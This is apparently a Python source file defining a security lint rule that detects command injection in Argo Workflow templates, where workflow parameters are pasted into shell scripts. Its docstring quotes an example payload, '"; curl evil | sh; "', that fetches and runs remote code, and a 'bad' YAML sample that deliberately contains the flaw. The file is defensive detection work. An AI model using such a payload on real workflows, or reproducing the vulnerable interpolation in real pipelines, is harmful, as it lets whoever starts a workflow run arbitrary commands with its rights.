from __future__ import annotations

from collections.abc import Iterator

from gatekeeper import Finding, Fix
from gatekeeper.models.kubernetes import ArgoWorkflow
from gatekeeper.models.kubernetes.argo_workflows import Filled
from gatekeeper.rule import rule


@rule(
    "argo-workflow-parameter-injection",
    gate="security-posture",
    severity="high",
    seed="6.1 Security Hardening",
    aliases=["semgrep:argo-workflow-parameter-command-injection"],
    where=lambda each: bool(each.containers),
)
def workflow_parameter_injection(each: ArgoWorkflow) -> Iterator[Finding]:
    """No script of an Argo Workflow is put together from its parameters.

    Argo writes the value into the text before a shell reads it: `"; curl evil | sh; "` as a parameter is a command like
    any other, run with the workflow's rights. Handed over as an environment variable or an argument, it stays a value.
    Meant are texts that an interpreter reads (`source`, `sh -c`), with parameters that whoever starts the workflow, an
    event for instance, chooses: not values that stand in a Workflow itself, nor those of an `enum`.

    Bad:
    ```yaml
    apiVersion: argoproj.io/v1alpha1
    kind: WorkflowTemplate
    metadata: {name: build}
    spec:
      entrypoint: main
      arguments: {parameters: [{name: branch}]}
      templates:
        - name: main
          steps:
            - - name: checkout
                template: checkout
                arguments: {parameters: [{name: ref, value: "{{workflow.parameters.branch}}"}]}
        - name: checkout
          inputs: {parameters: [{name: ref}]}
          script:
            image: alpine/git:2.45.2
            command: [sh]
            # expect: inputs.parameters.ref becomes part of the script
            source: |
              git checkout {{inputs.parameters.ref}}
        - name: note
          container:
            image: alpine:3.20
            command: [sh, -c]
            # expect: workflow.parameters.branch becomes part of the script
            args: ["echo {{workflow.parameters.branch}}"]
    ```

    Good:
    ```yaml
    apiVersion: argoproj.io/v1alpha1
    kind: WorkflowTemplate
    metadata: {name: build}
    spec:
      entrypoint: main
      arguments: {parameters: [{name: branch}, {name: level, enum: [debug, info]}]}
      templates:
        - name: main
          steps:
            - - name: checkout
                template: checkout
                arguments: {parameters: [{name: ref, value: main}]}
        - name: checkout
          inputs: {parameters: [{name: ref}]}
          script:
            image: alpine/git:2.45.2
            command: [sh]
            env: [{name: BRANCH, value: "{{workflow.parameters.branch}}"}]
            source: |
              git checkout "$BRANCH" || git checkout {{inputs.parameters.ref}}
        - name: note
          container:
            image: alpine:3.20
            command: [echo]
            args: ["{{workflow.parameters.branch}}", "{{workflow.parameters.level}}"]
    ```
    """
    scripts: dict[int, list[Filled]] = {}
    for filled in each.fills_in():
        scripts.setdefault(id(filled.at), []).append(filled)
    for found in scripts.values():
        *most, last = dict.fromkeys(filled.parameter for filled in found)
        names = f"{', '.join(most)} and {last} become" if most else f"{last} becomes"
        words = f"{names} part of the script: whoever starts it chooses the commands"
        yield Finding(found[0].at, words, fix=Fix("hand it over as an environment variable"))
